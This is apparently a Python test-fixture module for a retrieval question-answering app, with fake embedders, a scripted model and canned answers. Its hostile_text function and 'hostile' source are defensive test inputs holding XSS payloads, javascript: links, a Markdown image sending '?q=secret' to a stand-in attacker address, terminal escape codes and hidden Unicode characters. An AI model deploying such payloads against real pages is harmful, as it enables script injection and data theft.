"""Small stand-ins for the seams: an embedder that hashes words, and a language model that reads from a script."""

from __future__ import annotations

import hashlib
import json
import math
import re
import threading
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from itertools import accumulate
from pathlib import Path

import numpy as np

from index.document.structure import Structure, packed
from index.errors import IndexDamaged
from index.store.corpus import Held, StoredPath
from index.types import Article, Block, Cell, Document, IndexState, Passage, Source, Span, Vectors, passage_id
from index.words.tokens import words
from rag.app.conversations.notebook import Notebooks, Pin
from rag.app.workspace import Workspace
from rag.asking.filters import EVERY_ARTICLE, Entry, Filters
from rag.asking.listed import Listed, documents_of
from rag.asking.suggest import DocumentSpan
from rag.errors import Cancelled
from rag.reader.layout import Unit
from rag.reader.reader import Judgement, PassageReading
from rag.settings import Settings
from rag.types import (
    Answer,
    Citation,
    Computed,
    Conflict,
    Live,
    Ranks,
    Reason,
    RetrievedPassage,
    Side,
    Statement,
    Status,
    Turn,
    Verdict,
)
from rag.verification.reopen import GONE, State
from rag.wording import attribution


class HashingEmbedder:
    """Bag-of-words vectors by hashing: texts that share words are near, and no model is needed."""

    def __init__(self, dimension: int = 64, name: str = "hashing") -> None:
        self.dimension = dimension
        self.fingerprint = f"{name}-{dimension}"
        self.seen: list[str] = []

    def embed(self, texts: Sequence[str]) -> Vectors:
        self.seen.extend(texts)
        rows = np.zeros((len(texts), self.dimension), dtype=np.float32)
        for row, text in zip(rows, texts, strict=True):
            for word in re.findall(r"\w+", text.lower()) or ["?"]:
                digest = hashlib.sha256(word.encode()).digest()
                row[int.from_bytes(digest[:4], "big") % self.dimension] += 1.0 if digest[4] % 2 else -1.0
            if not row.any():
                row[0] = 1.0
        return np.asarray(rows / np.linalg.norm(rows, axis=1, keepdims=True), dtype=np.float32)


class ScriptedLLM:
    """Replies from a list, in order, and keeps every prompt it was given."""

    name = "scripted"

    def __init__(self, *replies: str, window: int = 8192) -> None:
        self.replies = list(replies)
        self.prompts: list[str] = []
        self.window = window

    def tokens(self, text: str) -> int:
        return len(text.split())

    def complete(self, prompt: str) -> str:
        self.prompts.append(prompt)
        return self.replies.pop(0)

    def stream(self, prompt: str) -> Iterator[str]:
        for word in self.complete(prompt).split(" "):
            yield word + " "


WIRE = """Strike near the northern border

Northern Wire, by A. Reporter, Sept. 7, 2017:

Aircraft struck a research facility near the town of Masra early on Thursday. Two soldiers were killed, the army said \
in a statement. Officials of the neighbouring state declined to comment on the report. The facility had been named in \
a sanctions list in April, together with 271 employees of the same centre.

Residents heard four explosions between two and three in the morning, and the power failed in the eastern districts.
"""
HERALD = """Explosion at a plant, no casualties

The Herald, 8 September 2017

A fire broke out at a plant near Masra on Thursday. No one was hurt, according to the regional governor, who blamed an \
electrical fault. Engineers were expected to reach the site on Friday.
"""


LEASE = """Lease of Flat 4, Mill Lane

3. Repairs

The landlord pays for repairs to the boiler and the roof. The tenant replaces light bulbs and fuses.

7. Ending the lease

Either side may end this lease with eight weeks' notice in writing. The deposit is paid back within a month.
"""
FARES = """Zone,Single,Day ticket,Valid from
1,1.80,4.20,2024-01-01
2,2.60,5.90,2024-01-01
3,3.40,7.50,2024-07-01
"""


class WaitingEmbedder(HashingEmbedder):
    """Does not embed before it is let go."""

    def __init__(self) -> None:
        super().__init__()
        self.go = threading.Event()
        self.go.set()

    def embed(self, texts: Sequence[str]) -> Vectors:
        assert self.go.wait(600)  # a busy machine is slow to show a page
        return super().embed(texts)


class FakePipeline:
    """Gives the answer prepared for a question, and raises for "raise rag" and "raise other".

    A word of the question chooses it: "notice" and "fare" are answered with a quote and with a row of a table, "hurt"
    with two quotes that differ; "add up" with what code worked out over a table; "power" may be answered; "cake" and
    "boiling" are refused; "hostile" is hostile. All else a model answers, with a sentence of each verdict.

    `attacker` is the address that hostile content tries to reach; `asked` keeps each question with its history.
    """

    def __init__(self, attacker: str = "http://127.0.0.1:9") -> None:
        self.texts = {
            "wire": WIRE, "herald": HERALD, "lease": LEASE, "fares": FARES, "hostile": hostile_text(attacker),
        }  # fmt: skip
        self.sources = {
            "wire": Source("wire", "news/wire.txt", "a" * 64, "Strike near the northern border", "Northern Wire",
                           "A. Reporter", "2017-09-07"),
            "herald": Source("herald", "news/herald.txt", "b" * 64, "Explosion at a plant, no casualties", "The Herald",
                             None, "2017-09"),
            "lease": Source("lease", "home/lease.docx", "d" * 64, "Lease of Flat 4, Mill Lane", None, None,
                            "2023-03-01"),
            "fares": Source("fares", "travel/fares.csv", "e" * 64, None, None, None, None),
            "hostile": Source("hostile", f"<img src={attacker}/path onerror=window.__x=1>\u202etxt.exe\n.md", "c" * 64,
                              f"![t]({attacker}/title) <script>window.__x=2</script>", "<b>Outlet</b>",
                              "\x1b[31mred\x1b[0m", "2017-09"),
        }  # fmt: skip
        self.asked: list[tuple[str, tuple[Turn, ...]]] = []
        self.kept_to: list[tuple[Filters, bool]] = []
        self.says: tuple[str, ...] = ()
        """What a model writes before an answer is there, piece by piece; each waits for `go`."""
        self.go = threading.Event()
        self.go.set()
        self.stopped = threading.Event()
        self.state = IndexState("g1", 2, 70)

    def _speak(self, live: Live) -> None:
        for piece in self.says:
            live.on_text(piece)
            assert self.go.wait(600)  # as above
            if live.cancelled():
                self.stopped.set()
                raise Cancelled("The question was stopped before its answer was whole; ask again.")

    def check(self, citation: Citation) -> State:
        text = self.texts.get(citation.source.document_id, "")
        return State("same", citation.source.path, citation.span) if citation.quote in text else GONE

    def held(self, document_id: str) -> Held | None:
        if document_id not in self.texts:
            return None
        text, source = self.texts[document_id], self.sources[document_id]
        article = Article(document_id, 0, Span(0, len(text)), source.title, source.outlet, source.author, source.date)
        place = StoredPath(source.path, Path("/nowhere") / document_id, document_id, len(text), 0)
        return Held(Document(document_id, source.sha256, text, "utf-8"), (article,), (place,))

    def documents(self, most: int) -> tuple[Held, ...]:
        return tuple(held for key in list(self.texts)[:most] if (held := self.held(key)))

    def entries(self) -> tuple[Entry, ...]:
        held = [self.held(key) for key in self.texts]
        return tuple(Entry(each.articles[0], (each.files[0].path,)) for each in held if each)

    def listed(self) -> tuple[Listed, ...]:
        return documents_of(self.entries())

    def finds(self, question: str) -> DocumentSpan | None:
        return None

    def warm(self) -> None:
        pass

    def close(self) -> None:
        pass

    def text(self, document_id: str) -> str:
        if document_id not in self.texts:
            raise IndexDamaged(f"The document {document_id!r} is not in the index; run rag index again.")
        return self.texts[document_id]

    def structure(self, document_id: str) -> Structure:
        return Structure(packed(rows_of(self.text(document_id)) if document_id == "fares" else ()))

    def ask(
        self,
        question: str,
        *,
        history: Sequence[Turn] = (),
        live: Live | None = None,
        filters: Filters = EVERY_ARTICLE,
        understand: bool = True,
    ) -> Answer:
        self.asked.append((question, tuple(history)))
        self.kept_to.append((filters, understand))
        if live and self.says:
            self._speak(live)
        if question == "raise rag":
            raise IndexDamaged("The index is damaged at <b>'corpus.sqlite'</b>; run rag index again.")
        if question == "raise other":
            raise KeyError("secret detail")
        answers: dict[str, Callable[[], Answer]] = {
            "cake": lambda: self._refused(question, "cake"),
            "boiling": lambda: self._refused(question, None),
            "hurt": lambda: self._conflict(question, history),
            "notice": lambda: self._notice(question),
            "add up": lambda: self._added_up(question),
            "fare": lambda: self._fare(question),
            "power": lambda: self._may_answer(question),
            "hostile": lambda: self._hostile(question),
        }
        chosen = next((answer for word, answer in answers.items() if word in question), None)
        return chosen() if chosen else self._written(question, history)

    def _passages(self, *places: tuple[str, str, str]) -> tuple[RetrievedPassage, ...]:
        """Passages from (document, first words, last words), labelled 1.. in this order."""
        found = []
        for label, (document, first, last) in enumerate(places, start=1):
            text = self.texts[document]
            start = text.index(first)
            span = Span(start, text.index(last, start) + len(last))
            passage = Passage(passage_id(document, span), document, 0, span.start, span.end, span.of(text))
            ranks = Ranks(dense=label, lexical=None if label == 3 else label + 1)
            found.append(RetrievedPassage(label, passage, self.sources[document], 1 / label, ranks))
        return tuple(found)

    def _place(self, item: RetrievedPassage, words: str) -> Span:
        start = self.texts[item.passage.document_id].index(words, item.passage.start)
        return Span(start, start + len(words))

    def _citation(self, item: RetrievedPassage, quote: str, verdict: Verdict) -> Citation:
        span = self._place(item, quote)
        return Citation(item.label, verdict, item.source, None, span, quote, item.headings)

    def _quote(self, item: RetrievedPassage, quote: str, answer: str | None = None) -> Citation:
        """Words that are quoted, of which `answer` are those that answer."""
        words = self._place(item, answer) if answer else None
        return replace(self._citation(item, quote, "quoted"), answer=words)

    def _answer(
        self,
        question: str,
        passages: tuple[RetrievedPassage, ...],
        *,
        status: Status = "answered",
        probability: float = 0.93,
        standalone: str | None = None,
        statements: tuple[Statement, ...] = (),
        citations: tuple[Citation, ...] = (),
        quotes: tuple[Citation, ...] = (),
        conflicts: tuple[Conflict, ...] = (),
        reason: Reason | None = None,
        missing: str | None = None,
        model: str | None = None,
    ) -> Answer:
        """An answer of these parts; quotes that are cited are its statements too, as the quoting answerer has them."""
        said = statements or tuple(
            Statement(f"{attribution(c.source)}: “{c.quote}”", (c.label,), "quoted", "", ((c.label, c.span),))
            for c in citations
        )
        return Answer(
            question=question,
            standalone_question=standalone or question,
            status=status,
            probability=probability,
            reason=reason,
            text=" ".join(s.text for s in said),
            statements=said,
            citations=citations,
            passages=passages,
            conflicts=conflicts,
            answerer="llm" if model else "quotes",
            model=model,
            settings_fingerprint="0" * 12,
            index=self.state,
            timings_ms={"total": 240.0},
            missing=missing,
            unknown_labels=tuple(n for s in said for n in s.labels if n > len(passages)),
            quotes=quotes,
        )

    def _news(self) -> tuple[RetrievedPassage, ...]:
        return self._passages(
            ("wire", "Aircraft struck", "same centre."),
            ("herald", "A fire broke out", "on Friday."),
            ("wire", "Residents heard", "eastern districts."),
        )

    def _written(self, question: str, history: Sequence[Turn]) -> Answer:
        """What a model wrote, a sentence of each verdict, with the sources' own words beside it."""
        wire, herald, rest = self._news()
        struck = "Aircraft struck a research facility near the town of Masra early on Thursday"
        fault = "who blamed an electrical fault"
        denied = "The governor blamed an electrical fault, which the army denied."
        first, second = self._place(wire, f"{struck}."), self._place(herald, fault)
        none, killed = self._place(herald, "No one was hurt"), self._place(wire, "Two soldiers were killed")
        return self._answer(
            question,
            (wire, herald, rest),
            standalone=f"{question} (near Masra)" if history else None,
            model="a-small-model",
            statements=(
                Statement(f"{struck} [1].", (1,), "supported", "", ((1, first),), 0.97),
                Statement(denied, (2,), "partly", "“denied” is not in [2]", ((2, second),), 0.6),
                Statement("One person was hurt at the plant [2].", (2,), "contradicted", "“one” against “no one”",
                          ((2, none),), 0.05),
                Statement("The plant was rebuilt within a week [9].", (9,), "unsupported"),
                Statement("Two soldiers died.", (), "uncited", "written without a source; [1] says it",
                          ((1, killed),), 0.9),
            ),
            citations=(
                self._citation(wire, f"{struck}.", "supported"),
                self._citation(herald, fault, "partly"),
                self._citation(herald, "No one was hurt", "contradicted"),
            ),
            quotes=(self._quote(wire, f"{struck}.", "a research facility near the town of Masra"),),
        )  # fmt: skip

    def _conflict(self, question: str, history: Sequence[Turn]) -> Answer:
        wire, herald, rest = self._news()
        dead, none = "Two soldiers were killed", "No one was hurt"
        return self._answer(
            question,
            (wire, herald, rest),
            standalone="Was anyone hurt near Masra?" if history else None,
            citations=(self._quote(wire, dead, "Two soldiers"), self._quote(herald, none, "No one")),
            conflicts=(Conflict("how many were hurt", (Side(1, dead), Side(2, none))),),
        )

    def _notice(self, question: str) -> Answer:
        """A quote under a heading, the words that answer marked."""
        found = self._passages(("lease", "Either side", "a month."), ("lease", "The landlord", "fuses."))
        paths = ("7. Ending the lease",), ("3. Repairs",)
        ending, repairs = (replace(item, headings=path) for item, path in zip(found, paths, strict=True))
        quote = self._quote(
            ending, "Either side may end this lease with eight weeks' notice in writing.", "eight weeks'"
        )
        return self._answer(question, (ending, repairs), citations=(quote,))

    def _fare(self, question: str) -> Answer:
        """A row of a table, its values under their heads."""
        (item,) = self._passages(("fares", "1,1.80", "2024-07-01"))
        table = replace(item, columns="Zone,Single,Day ticket,Valid from")
        heads = ("Zone", "Single", "Day ticket", "Valid from")
        cells = tuple(zip(heads, ("2", "2.60", "5.90", "2024-01-01"), strict=True))
        row = replace(self._quote(table, "2,2.60,5.90,2024-01-01", "2.60"), cells=cells)
        return self._answer(question, (table,), citations=(row,))

    def _added_up(self, question: str) -> Answer:
        """What code worked out over a table, the first row of which is quoted."""
        fare = self._fare(question)
        (row,) = fare.citations
        text = "The single fares add up to 7.80, over 3 of 3 rows."
        return replace(fare, computed=Computed("sum", "", text, "7.80", 3, 3, ((row.label, row.span),)))

    def _may_answer(self, question: str) -> Answer:
        wire, herald, rest = self._news()
        quote = self._quote(rest, "the power failed in the eastern districts", "in the eastern districts")
        return self._answer(question, (wire, herald, rest), status="may_answer", probability=0.41, citations=(quote,))

    def _refused(self, question: str, missing: str | None) -> Answer:
        news = self._news()
        near = (self._quote(news[0], "Two soldiers were killed, the army said in a statement."),)
        return self._answer(
            question, news, status="refused", probability=0.04, reason="no_evidence", missing=missing, quotes=near
        )

    def _hostile(self, question: str) -> Answer:
        (item,) = self._passages(("hostile", "Begin", "End."))
        text = f"{item.passage.text} [1]"
        frame = Side(1, "<iframe srcdoc='<script>window.__x=6</script>'>")
        return self._answer(
            question,
            (item,),
            standalone=f"{question} <img src=x onerror=window.__x=9>",
            statements=(Statement(text, (1,), "supported", "<svg onload=window.__x=8>", ((1, item.passage.span),)),),
            citations=(self._citation(item, item.passage.text[6:60], "supported"),),
            quotes=(replace(self._quote(item, item.passage.text[6:90], item.passage.text[20:40]), headings=(text,)),),
            model="<b>model</b>",
            conflicts=(Conflict("<script>window.__x=7</script>", (frame,)),),
        )


def rows_of(text: str) -> list[Block]:
    """The rows of a text with commas, the first of which is of heads."""
    heads, at, rows = text.splitlines()[0].split(","), 0, list[Block]()
    for line in text.splitlines():
        places = list(accumulate([at, *(len(value) + 1 for value in line.split(","))]))
        cells = [Cell(head, Span(start, end - 1)) for head, start, end in zip(heads, places, places[1:], strict=False)]
        rows.append(Block("row", Span(at, at + len(line)), cells=tuple(cells) if rows else (), table=0))
        at += len(line) + 1
    return rows


def hostile_text(attacker: str) -> str:
    """A document that tries everything: markup, Markdown, templates, terminal codes and hidden characters."""
    return (
        f"Before. Begin ![x]({attacker}/md?q=secret) ![y][r] <img src='{attacker}/img' onerror='window.__x=3'> "
        f"<script>window.__x=4</script> <svg/onload=window.__x=5> <video src={attacker}/video autoplay></video> "
        f"<link rel=stylesheet href={attacker}/css><iframe src={attacker}/frame></iframe>"
        f"<form action={attacker}/form><details open ontoggle=window.__x=10> [link](javascript:window.__x=11) "
        f"<a href='javascript:window.__x=12'>a</a> <style>@import url({attacker}/import)</style> "
        f"$\\href{{{attacker}/tex}}{{x}}$ ${{window.__x=13}} {{{{value}}}} `${{1}}` \x1b[31mred\x1b[0m "
        f"\x1b]8;;{attacker}\x07osc \u202eesrever\u202c \u2066iso\u2069 zero\u200bwidth \U000e0041tag \x00 "
        f"\n[r]: {attacker}/ref\n</blockquote></article></section></div> End. After."
    )


def tiny_model(folder: Path, seed: int = 0) -> Path:
    """A real sentence-transformers model of a few kilobytes with random weights, for tests of all but the answers."""
    import torch
    from transformers import BertConfig, BertModel, BertTokenizerFast
    from transformers.utils.logging import disable_progress_bar

    disable_progress_bar()
    torch.manual_seed(seed)
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    vocabulary = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", *letters, *(f"##{letter}" for letter in letters)]
    (folder / "1_Pooling").mkdir(parents=True)
    (folder / "vocab.txt").write_text("\n".join(vocabulary) + "\n")
    BertTokenizerFast(str(folder / "vocab.txt"), model_max_length=64).save_pretrained(folder)
    shape = {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 1, "intermediate_size": 16}
    BertModel(BertConfig(vocab_size=len(vocabulary), max_position_embeddings=64, **shape)).save_pretrained(folder)
    types = "sentence_transformers.models"
    modules = [
        {"idx": 0, "name": "0", "path": "", "type": f"{types}.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": f"{types}.Pooling"},
    ]
    pooling = {"word_embedding_dimension": 16, "pooling_mode_mean_tokens": True}
    (folder / "modules.json").write_text(json.dumps(modules))
    (folder / "1_Pooling" / "config.json").write_text(json.dumps(pooling))
    (folder / "sentence_bert_config.json").write_text(json.dumps({"max_seq_length": 64}))
    return folder


class ScriptedEntailment:
    """Gives every pair the same probability of entailment, and keeps what it was asked."""

    def __init__(self, probability: float) -> None:
        self.probability = probability
        self.pairs: list[tuple[str, str]] = []

    def probabilities(self, pairs: Sequence[tuple[str, str]]) -> list[tuple[float, float]]:
        self.pairs.extend(pairs)
        return [(self.probability, 0.0) for _ in pairs]


class FakeWorkspace(Workspace):
    """A workspace whose every collection is one fake pipeline."""

    def __init__(self, home: Path, pipeline: FakePipeline) -> None:
        super().__init__(Settings(home=home))
        self.fake = pipeline

    def pipeline(self, collection: str | None = None) -> FakePipeline:  # type: ignore[override]
        return self.fake


class OverlapReader:
    """Reads by shared words: a unit's logit grows with the share of the question's words in it."""

    fingerprint = "overlap"

    def __init__(self, nothing: float = 2.0) -> None:
        self.nothing = nothing

    def read(self, question: str, passages: Sequence[Sequence[Unit]]) -> list[PassageReading]:
        wanted = _stems(question)
        return [
            PassageReading(
                self.nothing,
                tuple(8 * _share(wanted, unit.text) if unit.candidate else -math.inf for unit in units),
                tuple((0, len(unit.text)) if unit.candidate else None for unit in units),
            )
            for units in passages
        ]

    def judge(self, pairs: Sequence[tuple[str, Sequence[Unit]]]) -> list[Judgement]:
        shares = [_share(_stems(statement), " ".join(unit.text for unit in units)) for statement, units in pairs]
        unsure = [0.05 + 0.9 * share for share in shares]  # no model is ever certain
        return [Judgement(0.05 * (1 - share), 0.95 * (1 - share), share) for share in unsure]


def _stems(text: str) -> frozenset[str]:
    return frozenset(word.stem for word in words(text) if not word.is_stop)


def _share(wanted: frozenset[str], text: str) -> float:
    return len(wanted & _stems(text)) / len(wanted) if wanted else 0.0


def pinned(home: Path, questions: Sequence[str], note: str) -> tuple[Pin, ...]:
    """The answers to these questions, pinned one after another, the first with a note."""
    notebooks, pipeline = Notebooks(home), FakePipeline()
    for question in questions:
        notebooks.pin("default", "answer", pipeline.ask(question))
    notebooks.annotate(notebooks.pins("default")[0].id, note)
    return notebooks.pins("default")


def stands(_: Citation) -> State:
    """What becomes of a quote whose source never changes."""
    return State("same")
